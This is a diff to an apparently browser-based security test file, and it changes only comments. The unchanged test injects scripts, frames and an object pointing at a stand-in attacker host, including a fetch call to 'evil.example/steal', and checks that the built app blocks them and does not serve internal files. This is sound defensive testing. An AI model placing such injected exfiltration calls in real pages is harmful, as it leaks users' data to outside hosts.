@@ -4,8 +4,6 @@ import { fileURLToPath } from "node:url";
 import { dayRow, openingButton } from "../support/screens.ts";
 import { expect, test } from "../support/test.ts";
 
-/* What the built product refuses to a script that got into a page, and to somebody who asks for its insides. */
-
 const webRoot = fileURLToPath(new URL("../../../web/dist", import.meta.url));
 
 test("injected scripts, frames and calls elsewhere do nothing in a real browser", async ({ page, trap }) => {
@@ -30,7 +28,7 @@ test("injected scripts, frames and calls elsewhere do nothing in a real browser"
     add("object", { data: "https://evil.example/x.swf" });
     add("base", { href: "https://evil.example/" });
     fetch("https://evil.example/steal").catch(() => {});
-    // What the test itself evaluates may evaluate more; a task of the page may not.
+    // The test's own evaluate may use eval; a task of the page may not.
     setTimeout(() => new Function("document.title = 'run'")());
   });
   const directives = () => page.evaluate(() => [...new Set((window as unknown as { broken: string[] }).broken)].sort());
@@ -91,7 +89,7 @@ test("neither the repository, the database, the photos nor a source map is serve
     const response = await request.get(`/${path}`);
     const isPage =
       response.headers()["content-type"]?.startsWith("text/html") && (await response.text()).includes('id="root"');
-    // Two segments below photos are a photo's address, whose id only its owner's session may try.
+    // Two segments below photos are a photo's address, which needs a session.
     const refused = path.startsWith("photos/") ? [401, 404] : [404];
     expect(refused.includes(response.status()) || isPage, path).toBe(true);
   }
